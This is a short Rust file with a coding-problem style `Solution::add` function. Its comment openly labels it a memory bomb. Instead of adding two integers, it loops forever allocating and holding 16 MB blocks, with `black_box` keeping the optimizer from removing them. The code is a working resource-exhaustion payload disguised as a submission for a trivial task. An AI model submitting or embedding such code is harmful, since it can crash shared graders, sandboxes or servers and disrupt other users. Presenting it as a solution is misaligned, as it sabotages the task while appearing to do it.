// Memory bomb: 16 MB blocks, touched and kept forever (black_box: the optimizer keeps them).
impl Solution {
    pub fn add(a: i32, b: i32) -> i32 {
        let mut hog: Vec<Vec<u8>> = Vec::new();
        loop {
            hog.push(std::hint::black_box(vec![1u8; 1 << 24]));
        }
    }
}
